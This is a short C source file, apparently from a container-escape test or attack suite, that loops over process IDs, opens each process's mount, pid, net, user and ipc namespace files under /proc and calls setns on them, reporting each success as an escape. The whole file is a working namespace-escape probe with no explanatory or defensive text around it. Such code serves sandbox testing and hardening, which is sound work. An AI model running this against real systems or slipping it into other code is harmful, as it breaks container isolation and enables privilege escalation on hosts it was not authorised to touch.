/* Enters the namespaces of every process. */
#include "attack.h"

int main(void)
{
    char path[64];
    const char *kinds[] = {"mnt", "pid", "net", "user", "ipc"};
    for (int pid = 1; pid < 3000; pid++)
        for (int i = 0; i < 5; i++) {
            snprintf(path, sizeof path, "/proc/%d/ns/%s", pid, kinds[i]);
            int fd = open(path, O_RDONLY);
            if (fd >= 0 && setns(fd, 0) == 0)
                escaped(path);
            close(fd);
        }
    return 0;
}
